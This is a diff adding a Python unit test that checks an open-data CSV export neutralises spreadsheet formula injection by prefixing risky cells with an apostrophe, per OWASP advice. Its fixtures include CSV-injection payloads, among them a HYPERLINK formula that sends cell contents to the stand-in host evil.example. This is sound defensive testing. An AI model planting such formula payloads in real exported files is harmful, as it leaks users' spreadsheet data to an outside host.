@@ -155,3 +155,34 @@ def test_every_data_file_names_its_schema() -> None:
         assert first == opendata.schema_header(name), (
             f"data/{filename}: first line should be {opendata.schema_header(name)!r}"
         )
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path) -> None:
+    """OWASP's advice on CSV injection, said in the CSVW metadata; the JSON keeps the values."""
+    hostile = {"fr": '=HYPERLINK("https://evil.example/?"&A1,"x")', "en": "+1+2", "v": "@SUM(A1:A2)", "w": "-2+3"}
+    data = load_dataset(
+        data_copy(
+            tmp_path,
+            provisions=(
+                "heading: {fr: Première disposition, en: First provision}",
+                f"heading: {{fr: '{hostile['fr']}', en: '{hostile['en']}'}}",
+            ),
+        )
+    )
+    data2 = load_dataset(
+        data_copy(
+            tmp_path / "2",
+            provisions=(
+                "heading: {fr: Deuxième disposition, en: Second provision}",
+                f"heading: {{fr: '{hostile['v']}', en: '{hostile['w']}'}}",
+            ),
+        )
+    )
+    cells = [row[6:8] for d in (data, data2) for row in csv.reader(io.StringIO(opendata.provisions_csv(d, url_for)))]
+    for value in hostile.values():
+        assert [f"'{value}"] == [cell for pair in cells for cell in pair if cell.endswith(value)], value
+    assert not [cell for pair in cells for cell in pair if cell.startswith(opendata.FORMULA_STARTS)]
+    metadata = json.loads(opendata.csvw_metadata(data))
+    assert "apostrophe" in metadata["dc:description"] and "OWASP" in metadata["dc:description"]
+    assert json.loads(opendata.resolution_json(data))["provisions"][0]["heading"]["fr"] == hostile["fr"]
+    assert opendata.csv_cell(7) == 7 and opendata.csv_cell("a=b") == "a=b" and opendata.csv_cell("\tx") == "'\tx"
